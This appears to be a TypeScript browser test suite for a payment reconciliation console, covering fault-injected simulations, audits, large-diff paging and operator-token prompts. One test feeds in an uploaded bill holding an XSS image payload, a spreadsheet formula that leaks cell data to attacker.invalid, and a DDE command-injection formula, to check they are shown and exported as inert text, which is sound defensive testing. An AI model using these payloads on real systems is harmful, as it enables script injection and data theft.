/**
 * The operations console in headless Chromium (Debian's package, driven by playwright-core):
 * the README's day with the platform done entirely from the console, a hostile bill handed in,
 * paging to the last row of a 100,000-row diff, and the operator token. Every page is saved as a
 * screenshot under test-artifacts/console/. Without /usr/bin/chromium (or CHROMIUM_PATH) the
 * suite is skipped, unless REQUIRE_BROWSER=1 (CI), where that is a failure.
 */
import { existsSync, mkdirSync, mkdtempSync, rmSync } from "node:fs";
import { readFile, writeFile } from "node:fs/promises";
import { createServer as createNetServer, type AddressInfo, type Server as NetServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect } from "chai";
import { unzipSync, strFromU8 } from "fflate";
import { chromium, type BrowserContext, type Page } from "playwright-core";
import { linkApiCatalogs } from "../../services/shared/rpc/apiDocs.js";
import { EnvReader } from "../../services/shared/runtime/config.js";
import { readServing } from "../../services/shared/rpc/serving.js";
import { startPlatform, type Platform } from "../harness.js";
import { OrderKey, OrderType } from "../../gen/order/v1/order_pb.js";

const CHROMIUM = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
const ARTIFACTS = join(process.cwd(), "test-artifacts", "console");
const TOKEN = "console-operator-token";

function yuan(fen: bigint): string {
  const neg = fen < 0n;
  const abs = neg ? -fen : fen;
  const text = `${(abs / 100n).toString().replace(/\B(?=(\d{3})+(?!\d))/g, ",")}.${(abs % 100n).toString().padStart(2, "0")}`;
  return neg ? `-${text}` : text;
}

function signedYuan(fen: bigint): string {
  return fen > 0n ? `+${yuan(fen)}` : yuan(fen);
}

async function launch(profile: string): Promise<BrowserContext> {
  return chromium.launchPersistentContext(profile, {
    executablePath: CHROMIUM,
    headless: true,
    acceptDownloads: true,
    viewport: { width: 1280, height: 900 },
    args: [
      "--headless",
      "--no-sandbox",
      "--disable-gpu",
      "--disable-quic",
      "--no-first-run",
      "--disable-background-networking",
      "--disable-component-update",
      "--disable-sync",
    ],
  });
}

/** A page that records every page error and console error. */
async function openPage(browser: BrowserContext): Promise<{ page: Page; errors: string[] }> {
  const page = await browser.newPage();
  page.setDefaultTimeout(60_000);
  const errors: string[] = [];
  page.on("pageerror", (e) => errors.push(`pageerror: ${e.message}`));
  page.on("console", (m) => {
    if (m.type() === "error") errors.push(`console: ${m.text()}`);
  });
  return { page, errors };
}

async function shot(page: Page, name: string, fullPage = true): Promise<void> {
  mkdirSync(ARTIFACTS, { recursive: true });
  await page.screenshot({ path: join(ARTIFACTS, `${name}.png`), fullPage });
}

/** The text of every cell of a table body, row by row. */
async function cells(page: Page, testId: string): Promise<string[][]> {
  // One call for the whole table (runs in the page, where the DOM types are not declared here).
  return page
    .locator(`[data-testid="${testId}"] tbody tr, table[data-testid="${testId}"] tbody tr`)
    .evaluateAll((trs: any[]) => trs.map((tr) => Array.from(tr.querySelectorAll("td") as ArrayLike<any>).map((td) => String(td.textContent ?? "").trim())));
}

async function headers(page: Page, testId: string): Promise<string[]> {
  return (await page.locator(`[data-testid="${testId}"] thead th, table[data-testid="${testId}"] thead th`).allTextContents()).map((t) => t.trim());
}

async function rowsAsRecords(page: Page, testId: string): Promise<Record<string, string>[]> {
  const h = await headers(page, testId);
  return (await cells(page, testId)).map((r) => Object.fromEntries(r.map((v, i) => [h[i]!, v])));
}

/** Cells of an .xlsx sheet: [reference-less row index][column] -> { type, text, formula }. */
function sheetCells(xlsx: Uint8Array, sheet = 1): { t: string | undefined; text: string; formula: boolean }[][] {
  const files = unzipSync(xlsx);
  const xml = strFromU8(files[`xl/worksheets/sheet${sheet}.xml`]!);
  const unescape = (s: string) => s.replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&quot;/g, '"').replace(/&amp;/g, "&");
  return [...xml.matchAll(/<row>(.*?)<\/row>/gs)].map((row) =>
    [...row[1]!.matchAll(/<c(?: t="(\w+)")?(?:\/>|>(.*?)<\/c>)/gs)].map((c) => {
      const inner = c[2] ?? "";
      const text = /<t[^>]*>(.*?)<\/t>/s.exec(inner)?.[1] ?? /<v>(.*?)<\/v>/s.exec(inner)?.[1] ?? "";
      return { t: c[1], text: unescape(text), formula: inner.includes("<f") };
    }),
  );
}

/** Skips the suite without Chromium, unless REQUIRE_BROWSER=1 (CI), where that is a failure. */
function requireChromium(suite: Mocha.Context): void {
  if (existsSync(CHROMIUM)) return;
  if (process.env.REQUIRE_BROWSER === "1") throw new Error(`REQUIRE_BROWSER=1 but ${CHROMIUM} is missing; run scripts/install-chromium.sh`);
  console.log(`      skipped: ${CHROMIUM} is not installed (scripts/install-chromium.sh installs it; REQUIRE_BROWSER=1 makes this a failure)`);
  suite.skip();
}

/** Chromium on a profile of its own, removed with it. */
async function startBrowser(): Promise<{ browser: BrowserContext; close(): Promise<void> }> {
  const profile = mkdtempSync(join(tmpdir(), "chromium-profile-"));
  const browser = await launch(profile);
  return {
    browser,
    async close() {
      await browser.close();
      rmSync(profile, { recursive: true, force: true });
    },
  };
}

describe("operations console in headless Chromium [embedded]", function () {
  let p: Platform | undefined;
  let browser: BrowserContext | undefined;
  let closeBrowser: (() => Promise<void>) | undefined;

  before(async function () {
    requireChromium(this);
    p = await startPlatform({ name: "embedded" }, { payment: { settleCron: "off" }, merchant: { resolveCron: "off" } });
    linkApiCatalogs([p.payment.docs, p.merchant.docs, p.recon.docs]);
    ({ browser, close: closeBrowser } = await startBrowser());
  });

  after(async () => {
    await closeBrowser?.();
    await p?.close();
  });

  it("does the README's day: simulation with faults, settle, withdraw, reconcile, audit, downloads", async () => {
    const { page, errors } = await openPage(browser!);
    const base = p!.merchant.server.httpUrl;
    try {
      // 1. Payments with faults, from the Actions page.
      await page.goto(`${base}/#/actions`);
      await page.getByRole("heading", { name: "Actions" }).waitFor();
      await page.getByLabel("Requests").fill("2000");
      await page.getByLabel("Concurrency").fill("32");
      await page.getByLabel("Accounts").fill("5");
      await page.getByLabel("Seed").fill("42");
      await page.getByLabel("Lost responses (F113)").fill("2");
      await page.getByLabel("Tampered amounts (F115)").fill("1");
      await page.getByLabel("Merchant-only successes (F114)").fill("1");
      await page.getByRole("button", { name: "Run simulation" }).click();
      await page.locator('[data-testid="injected"]').waitFor();
      expect(await page.locator("progress").getAttribute("max")).to.equal("2000");
      expect(await page.evaluate<number>("document.querySelector('progress').value")).to.equal(2000);
      const injected = await rowsAsRecords(page, "injected");
      expect(injected.map((f) => f.kind).sort()).to.deep.equal(["LOST_RESPONSE", "LOST_RESPONSE", "MERCHANT_ONLY", "TAMPERED_AMOUNT"]);
      const outcome = await cells(page, "sim-outcome");
      expect(outcome.find((r) => r[0] === "UNKNOWN")?.[1]).to.equal("2");
      // The ground truth, from the merchant system, to compare the pages against.
      const truth = new Map<string, { kind: string; salerId: string; merchant: bigint; payment: bigint; expected: string }>();
      for (const f of injected) {
        const order = (await p!.merchantClient.getOrder({ requestId: f.request_id! })).order!;
        const paid = await p!.paymentClient.queryOrder({ requestId: f.request_id! });
        const payment = paid.found && paid.order.case === "payment" ? paid.order.value.totalFee : 0n;
        const merchant = order.state === "SUCCESS" ? order.amount : 0n;
        truth.set(f.request_id!, { kind: f.kind!, salerId: order.salerId, merchant, payment, expected: f.expected! });
        expect(f["merchant amount"]).to.equal(yuan(merchant));
        expect(f["payment amount"]).to.equal(yuan(payment));
      }

      // "Reconcile now" finds exactly the injected faults.
      await page.getByRole("button", { name: "Reconcile now" }).click();
      await page.locator('[data-testid="reconcile-now-result"]').getByText("found exactly the 4 injected faults").waitFor();
      await shot(page, "actions-simulation");

      // 2. Settle, then withdraw (a withdrawal simulation), both from the page.
      await page.getByRole("button", { name: "Settle now" }).click();
      await page.locator('[data-testid="act-settle-result"]').getByText(/Settled [\d,]+ payments/).waitFor();
      await page.getByLabel("Order type").first().selectOption("withdrawal");
      await page.getByLabel("Requests").fill("200");
      await page.getByLabel("Smallest amount (fen)").fill("1000");
      await page.getByLabel("Largest amount (fen)").fill("50000");
      await page.getByLabel("Seed").fill("7");
      for (const f of ["Lost responses (F113)", "Tampered amounts (F115)", "Merchant-only successes (F114)"]) await page.getByLabel(f).fill("0");
      await page.getByRole("button", { name: "Run simulation" }).click();
      await page.locator('[data-testid="sim-outcome"]').getByText("Simulated 200 withdrawals").waitFor();
      // Then refunds (退款) of the accounts' successful payments, in part or in full.
      await page.getByLabel("Order type").first().selectOption("refund");
      await page.getByLabel("Requests").fill("100");
      await page.getByLabel("Smallest amount (fen)").fill("100");
      await page.getByLabel("Largest amount (fen)").fill("2000");
      await page.getByLabel("Seed").fill("9");
      await page.getByRole("button", { name: "Run simulation" }).click();
      await page.locator('[data-testid="sim-outcome"]').getByText("Simulated 100 refunds").waitFor();
      const refundOutcome = await cells(page, "sim-outcome");
      const refundsSucceeded = Number(refundOutcome.find((r) => r[0] === "SUCCESS")?.[1] ?? "0");
      expect(refundsSucceeded, "successful refunds").to.be.greaterThan(50);

      // 3. Reconcile: the run page lists exactly the four injected orders.
      const reconcileCard = page.locator("section.card", { has: page.getByRole("heading", { name: "Reconcile", exact: true }) });
      await reconcileCard.getByRole("button", { name: "Reconcile" }).click();
      await reconcileCard.getByRole("link", { name: /open run/ }).click();
      await page.locator('[data-testid="diff-status"]').getByText("Rows 1–4 of 4 (last page)").waitFor();
      const listed = await rowsAsRecords(page, "diff-rows");
      expect(listed).to.have.length(4);
      for (const row of listed) {
        const t = truth.get(row.request_id!);
        expect(t, `row ${row.request_id} is an injected fault`).to.not.equal(undefined);
        expect(row["diff type"]).to.equal(t!.expected);
        expect(row.saler_id).to.equal(t!.salerId);
        if (t!.expected !== "F113") expect(row["merchant amount"]).to.equal(yuan(t!.merchant));
        if (t!.expected !== "F114") expect(row["payment amount"]).to.equal(yuan(t!.payment));
        expect(row.difference).to.equal(signedYuan(t!.payment - t!.merchant));
      }
      expect(new Set(listed.map((r) => r.request_id))).to.deep.equal(new Set(truth.keys()));
      // The withdrawals balance.
      const withdrawals = await cells(page, "summary-withdrawal");
      expect(withdrawals.filter((r) => r[0] !== "F000").map((r) => r[2])).to.deep.equal(["0", "0", "0"]);
      // And so do the refunds: every successful one on both sides.
      const refunds = await cells(page, "summary-refund");
      expect(refunds.filter((r) => r[0] !== "F000").map((r) => r[2])).to.deep.equal(["0", "0", "0"]);
      expect(refunds.find((r) => r[0] === "F000")?.[2]).to.equal(String(refundsSucceeded));
      // Filter by one account: only its faults.
      const oneSaler = [...truth.values()][0]!.salerId;
      const ofSaler = [...truth].filter(([, t]) => t.salerId === oneSaler).map(([id]) => id);
      await page.getByLabel("saler_id (exact)").fill(oneSaler);
      await page.getByRole("button", { name: "Show" }).click();
      // With a saler_id filter the total is unknown, so the status differs from the one before.
      await page.locator('[data-testid="diff-status"]').getByText(`Rows 1–${ofSaler.length} (last page)`, { exact: true }).waitFor();
      const forSaler = await rowsAsRecords(page, "diff-rows");
      expect(forSaler.map((r) => r.request_id).sort()).to.deep.equal(ofSaler.sort());
      await page.getByLabel("saler_id (exact)").fill("");
      await page.getByRole("button", { name: "Show" }).click();
      await page.locator('[data-testid="diff-status"]').getByText("Rows 1–4 of 4 (last page)").waitFor();
      await shot(page, "run-reconciliation");
      // The spreadsheet flavour of the diff keeps the injected orders' 20-digit ids as text.
      const [download] = await Promise.all([page.waitForEvent("download"), page.locator('a[data-file="payment_diff.csv"][data-format="xlsx"]').click()]);
      const sheet = sheetCells(new Uint8Array(await readFile((await download.path())!)));
      const ids = sheet.slice(1).map((r) => r[sheet[0]!.findIndex((c) => c.text === "request_id")]!);
      for (const id of truth.keys()) expect(ids.find((c) => c.text === id)?.t, id).to.equal("inlineStr");
      // Every payment of the day: 1,999 at the payment system and the merchant-only one.
      expect(sheet.slice(1)).to.have.length(2000);

      // 4. Audit: the accounts the faults touched fail, by exactly the faults' amounts.
      await page.getByRole("link", { name: "Actions" }).click();
      const auditCard = page.locator("section.card", { has: page.getByRole("heading", { name: "Audit", exact: true }) });
      await auditCard.getByRole("button", { name: "Audit" }).click();
      await auditCard.getByRole("link", { name: /open run/ }).click();
      await page.locator('[data-testid="audit-rows"]').waitFor();
      const expectedDiff = new Map<string, bigint>();
      for (const t of truth.values()) expectedDiff.set(t.salerId, (expectedDiff.get(t.salerId) ?? 0n) + t.payment - t.merchant);
      const failing = [...expectedDiff].filter(([, d]) => d !== 0n);
      const audit = await rowsAsRecords(page, "audit-rows");
      const fails = audit.filter((r) => r.result === "FAIL");
      expect(audit.slice(0, fails.length).every((r) => r.result === "FAIL"), "FAIL rows first").to.equal(true);
      // With the README's seed the faults touch three accounts.
      expect(fails).to.have.length(3);
      expect(fails.map((r) => [r.saler_id, r.difference]).sort()).to.deep.equal(failing.map(([s, d]) => [s, signedYuan(d)]).sort());
      expect(audit.filter((r) => r.result === "SUCCESS").every((r) => r.difference === "0.00")).to.equal(true);
      console.log(`      audit: ${fails.length} failing accounts: ${fails.map((r) => `${r.saler_id} ${r.difference}`).join(", ")}`);
      await shot(page, "run-audit");

      // 5. Overview and run history.
      await page.getByRole("link", { name: "Overview" }).click();
      await page.locator('[data-testid="order-states"]').waitFor();
      await page.locator('[data-testid="runs"]').waitFor();
      const states = await cells(page, "order-states");
      expect(states.find((r) => r[0] === "UNKNOWN")?.[1]).to.equal("2");
      const accounts = await p!.paymentClient.listAccounts({ pageSize: 1000 });
      const total = accounts.accounts.reduce((a, x) => a + x.balance, 0n);
      const foot = await page.locator('table[data-testid="accounts"] tfoot td').allTextContents();
      expect(foot[0]).to.equal(`total (${accounts.accounts.length} accounts)`);
      expect(foot[1]).to.equal(yuan(total));
      await shot(page, "overview");
      await page.getByRole("link", { name: "Runs", exact: true }).click();
      await page.locator('[data-testid="runs"]').waitFor();
      expect((await cells(page, "runs")).length).to.equal(3);
      await shot(page, "runs");

      // A narrow window: the page still lays out (no horizontal overflow of the page itself).
      await page.setViewportSize({ width: 420, height: 900 });
      await page.getByRole("link", { name: "Overview" }).click();
      await page.locator('[data-testid="order-states"]').waitFor();
      const overflow = await page.evaluate<number>("document.documentElement.scrollWidth - document.documentElement.clientWidth");
      expect(overflow).to.be.at.most(0);
      await shot(page, "overview-narrow");
      await page.setViewportSize({ width: 1280, height: 900 });

      // Keyboard: the skip link and the navigation are reachable with Tab.
      await page.reload();
      await page.locator('[data-testid="order-states"]').waitFor();
      await page.keyboard.press("Tab");
      expect(await page.evaluate<string>("document.activeElement.textContent")).to.equal("Skip to content");
      expect(errors).to.deep.equal([]);
    } catch (err) {
      await shot(page, "failure-day").catch(() => undefined);
      throw err;
    } finally {
      await page.close();
    }
  });

  it("shows a hostile bill as text and downloads it with every id digit and no formula", async () => {
    const { page, errors } = await openPage(browser!);
    const evilImg = `<img src=x onerror="window.__pwned=1">`;
    const evilFormula = `=HYPERLINK("http://attacker.invalid/?x="&A1,"click")`;
    const bill = [
      "request_id,response_id,saler_id,total_fee",
      `20261126065519113514,20261126065519383652,"${evilImg.replace(/"/g, '""')}",5933`,
      `20261126065520976024,20261126065520211109,"${evilFormula.replace(/"/g, '""')}",5437`,
      `20261126065520976134,20261126065520976135,+cmd|' /C calc'!A0,7330`,
    ].join("\n");
    const { run } = await p!.reconClient.reconcileFiles({
      orderType: OrderType.PAYMENT,
      key: OrderKey.RESPONSE_ID,
      merchant: { source: { case: "content", value: "request_id,response_id,saler_id,total_fee\n" } },
      payment: { source: { case: "content", value: bill } },
    });
    try {
      await page.goto(`${p!.payment.server.httpUrl}/#/runs/${run!.runId}`);
      await page.locator('[data-testid="diff-status"]').getByText("Rows 1–3 of 3 (last page)").waitFor();
      const rows = await rowsAsRecords(page, "diff-rows");
      expect(rows.map((r) => r.saler_id)).to.include.members([evilImg, evilFormula]);
      expect(await page.locator("main img").count()).to.equal(0);
      expect(await page.evaluate<unknown>("window.__pwned")).to.equal(undefined);

      // The spreadsheet flavour: text cells for ids and saler_ids, numbers for amounts, no formula.
      const [download] = await Promise.all([page.waitForEvent("download"), page.locator('a[data-file="payment_diff.csv"][data-format="xlsx"]').click()]);
      expect(download.suggestedFilename()).to.equal(`${run!.runId}_payment_diff.xlsx`);
      const xlsx = new Uint8Array(await readFile((await download.path())!));
      const sheet = sheetCells(xlsx);
      const header = sheet[0]!.map((c) => c.text);
      const col = (name: string) => header.indexOf(name);
      const body = sheet.slice(1);
      expect(body).to.have.length(3);
      expect(body.flat().some((c) => c.formula)).to.equal(false);
      expect(strFromU8(unzipSync(xlsx)["xl/worksheets/sheet1.xml"]!)).to.not.contain("<f");
      for (const r of body) {
        const id = r[col("request_id")]!;
        expect(id.t).to.equal("inlineStr");
        expect(id.text).to.match(/^\d{20}$/);
        expect(r[col("response_id")]!.t).to.equal("inlineStr");
        expect(r[col("saler_id")]!.t).to.equal("inlineStr");
        expect(r[col("total_fee")]!.t).to.equal(undefined); // a number cell
      }
      expect(body.map((r) => r[col("request_id")]!.text)).to.include("20261126065520976024");
      expect(body.map((r) => r[col("saler_id")]!.text)).to.include.members([evilImg, evilFormula, "+cmd|' /C calc'!A0"]);

      // As stored: the file's bytes.
      const [csv] = await Promise.all([page.waitForEvent("download"), page.locator('a[data-file="payment_diff.csv"][data-format="csv"]').click()]);
      expect(await readFile((await csv.path())!)).to.deep.equal(await readFile(join(run!.directory, "payment_diff.csv")));
      await shot(page, "run-hostile-bill");
      expect(errors).to.deep.equal([]);
    } finally {
      await page.close();
    }
  });

  it("pages to the last row of a 100,000-row diff", async function () {
    this.timeout(600_000);
    const { page, errors } = await openPage(browser!);
    const N = 100_000;
    const lines = ["request_id,response_id,saler_id,total_fee"];
    for (let i = 1; i <= N; i++) {
      const id = String(10_000_000_000_000_000_000n + BigInt(i));
      lines.push(`${id},${id},saler${i % 7},${i}`);
    }
    const paymentFile = join(p!.reconDir, "bill-100k.csv");
    const merchantFile = join(p!.reconDir, "empty.csv");
    await writeFile(paymentFile, lines.join("\n") + "\n");
    await writeFile(merchantFile, "request_id,response_id,saler_id,total_fee\n");
    const { run } = await p!.reconClient.reconcileFiles({
      orderType: OrderType.PAYMENT,
      merchant: { source: { case: "path", value: merchantFile } },
      payment: { source: { case: "path", value: paymentFile } },
    });
    expect(run!.diffs[0]!.f113Count).to.equal(BigInt(N));
    const t0 = performance.now();
    try {
      await page.goto(`${p!.recon.server.httpUrl}/#/runs/${run!.runId}`);
      await page.locator('[data-testid="diff-status"]').getByText(`Rows 1–50 of 100,000`).waitFor();
      console.log(`      first page shown after ${Math.round(performance.now() - t0)} ms`);
      await page.getByLabel("Rows per page").selectOption("1000");
      await page.getByRole("button", { name: "Show" }).click();
      await page.locator('[data-testid="diff-status"]').getByText(`Rows 1–1,000 of 100,000`).waitFor();
      const next = page.getByRole("button", { name: "Next page" });
      for (let pageNo = 2; pageNo <= N / 1000; pageNo++) {
        await next.click();
        await page.locator('[data-testid="diff-status"]').getByText(`Rows ${((pageNo - 1) * 1000 + 1).toLocaleString("en-US")}–`).waitFor();
      }
      await page.locator('[data-testid="diff-status"]').getByText("Rows 99,001–100,000 of 100,000 (last page)").waitFor();
      console.log(`      last page shown after ${Math.round(performance.now() - t0)} ms`);
      expect(await next.isDisabled()).to.equal(true);
      const last = (await rowsAsRecords(page, "diff-rows")).at(-1)!;
      expect(last["#"]).to.equal("100,000");
      expect(last.request_id).to.equal(String(10_000_000_000_000_000_000n + BigInt(N)));
      expect(last["payment amount"]).to.equal(yuan(BigInt(N)));
      await shot(page, "run-100k-last-page", false);
      // Back to the first page.
      await page.getByRole("button", { name: "First page" }).click();
      await page.locator('[data-testid="diff-status"]').getByText(`Rows 1–1,000 of 100,000`).waitFor();
      expect(errors).to.deep.equal([]);
    } finally {
      await page.close();
    }
  });
});

describe("operations console with OPERATOR_TOKEN [embedded]", function () {
  let p: Platform | undefined;
  let browser: BrowserContext | undefined;
  let closeBrowser: (() => Promise<void>) | undefined;

  before(async function () {
    requireChromium(this);
    p = await startPlatform({ name: "embedded" }, { payment: { operatorToken: TOKEN }, merchant: { operatorToken: TOKEN }, recon: { operatorToken: TOKEN } });
    linkApiCatalogs([p.payment.docs, p.merchant.docs, p.recon.docs]);
    ({ browser, close: closeBrowser } = await startBrowser());
  });

  after(async () => {
    await closeBrowser?.();
    await p?.close();
  });

  it("asks for the token, shows the service's refusal of a wrong one, and sends the right one", async () => {
    const { page, errors } = await openPage(browser!);
    // The refused calls are answered 401 and 403 on the gateway, which Chromium logs as a failed resource.
    const realErrors = () => errors.filter((e) => !/status of 40[13]/.test(e));
    try {
      await page.goto(`${p!.recon.server.httpUrl}/#/actions`);
      await page.getByRole("heading", { name: "Actions" }).waitFor();
      const reconcileCard = page.locator("section.card", { has: page.getByRole("heading", { name: "Reconcile", exact: true }) });
      await reconcileCard.getByRole("button", { name: "Reconcile" }).click();
      const dialog = page.getByRole("dialog");
      await dialog.waitFor().catch(async (err) => {
        await shot(page, "failure-token");
        throw err;
      });
      await dialog.getByLabel("Operator token").fill("wrong-token");
      await dialog.getByRole("button", { name: "Use token" }).click();
      // Refused: the wrong token is forgotten and asked for again, with the service's message;
      // cancelling shows that message.
      await dialog.getByText("authorization: the operator token is not valid").waitFor();
      await dialog.getByRole("button", { name: "Cancel" }).click();
      await reconcileCard.getByRole("alert").getByText("PermissionDenied: authorization: the operator token is not valid").waitFor();
      await reconcileCard.getByRole("button", { name: "Reconcile" }).click();
      await dialog.waitFor();
      await dialog.getByLabel("Operator token").fill(TOKEN);
      await dialog.getByRole("button", { name: "Use token" }).click();
      await reconcileCard.getByRole("link", { name: /open run/ }).waitFor();
      const { runs } = await p!.reconClient.listRuns({});
      expect(runs).to.have.length(1);
      expect(realErrors()).to.deep.equal([]);
    } finally {
      await page.close();
    }
  });
});

/** Ports free on loopback now: held together so that they differ, then released for the services. */
async function freePorts(n: number): Promise<number[]> {
  const servers = await Promise.all(
    Array.from({ length: n }, () => new Promise<NetServer>((resolve, reject) => {
      const s = createNetServer();
      s.once("error", reject);
      s.listen(0, "127.0.0.1", () => resolve(s));
    })),
  );
  const ports = servers.map((s) => (s.address() as AddressInfo).port);
  await Promise.all(servers.map((s) => new Promise((resolve) => s.close(resolve))));
  return ports;
}

describe("operations console of services linked only by PUBLIC_URLS (as under docker-compose) [embedded]", function () {
  let p: Platform | undefined;
  let browser: BrowserContext | undefined;
  let closeBrowser: (() => Promise<void>) | undefined;
  let publicUrls: Record<string, string> = {};

  before(async function () {
    requireChromium(this);
    const [payment, merchant, recon] = (await freePorts(3)) as [number, number, number];
    // Advertised under "localhost" while the page is opened at 127.0.0.1, as a user may.
    const env = { PUBLIC_URLS: `payment=http://localhost:${payment},merchant=http://localhost:${merchant},recon=http://localhost:${recon}` };
    const serving = readServing(new EnvReader(env));
    publicUrls = { ...serving.publicUrls };
    const listen = (httpPort: number) => ({ host: "127.0.0.1", grpcPort: 0, httpPort });
    // No linkApiCatalogs: each service knows the others only from its configuration.
    p = await startPlatform(
      { name: "embedded" },
      {
        payment: { listen: listen(payment), serving },
        merchant: { listen: listen(merchant), serving, resolveCron: "off" },
        recon: { listen: listen(recon), serving },
      },
    );
    ({ browser, close: closeBrowser } = await startBrowser());
  });

  after(async () => {
    await closeBrowser?.();
    await p?.close();
  });

  it("lists the three services on every port, and the console of one shows the others' data", async () => {
    for (const own of ["payment", "merchant", "recon"] as const) {
      const port = new URL(publicUrls[own]!).port;
      const config = (await (await fetch(`http://127.0.0.1:${port}/console/config.json`)).json()) as { own: string; ownUrl: string; services: { name: string; url: string }[] };
      expect(config.own).to.equal(own);
      expect(config.ownUrl).to.equal(publicUrls[own]);
      expect(config.services).to.deep.equal(["payment", "merchant", "recon"].map((name) => ({ name, url: publicUrls[name] })));
    }
    // The payment service lets the reconciliation service's page call it.
    const reconOrigin = `http://127.0.0.1:${new URL(publicUrls.recon!).port}`;
    const preflight = await fetch(`http://127.0.0.1:${new URL(publicUrls.payment!).port}/payment.v1.PaymentService/ListAccounts`, {
      method: "OPTIONS",
      headers: { origin: reconOrigin, "access-control-request-method": "POST", "access-control-request-headers": "content-type" },
    });
    expect(preflight.status).to.equal(204);
    expect(preflight.headers.get("access-control-allow-origin")).to.equal(reconOrigin);
    const stranger = await fetch(`http://127.0.0.1:${new URL(publicUrls.payment!).port}/payment.v1.PaymentService/ListAccounts`, {
      method: "OPTIONS",
      headers: { origin: "http://127.0.0.1:1", "access-control-request-method": "POST" },
    });
    expect(stranger.headers.get("access-control-allow-origin")).to.equal(null);

    const paid = await p!.merchantClient.pay({ salerId: "peer_acct", totalFee: 12_345n });
    expect(paid.order?.state).to.equal("SUCCESS");

    const { page, errors } = await openPage(browser!);
    try {
      await page.goto(`${reconOrigin}/#/`);
      await page.getByRole("heading", { name: "Overview" }).waitFor();
      await page.locator('[data-testid="accounts"] tbody tr').first().waitFor();
      const accounts = await rowsAsRecords(page, "accounts");
      expect(accounts.find((r) => r.saler_id === "peer_acct")?.["pending credit"]).to.equal("123.45");
      await page.locator('[data-testid="order-states"] tbody tr').first().waitFor();
      const states = await rowsAsRecords(page, "order-states");
      expect(states.find((r) => r.state === "SUCCESS")?.payments).to.equal("1");
      await shot(page, "peers-overview");
      expect(errors).to.deep.equal([]);
    } finally {
      await page.close();
    }
  });
});
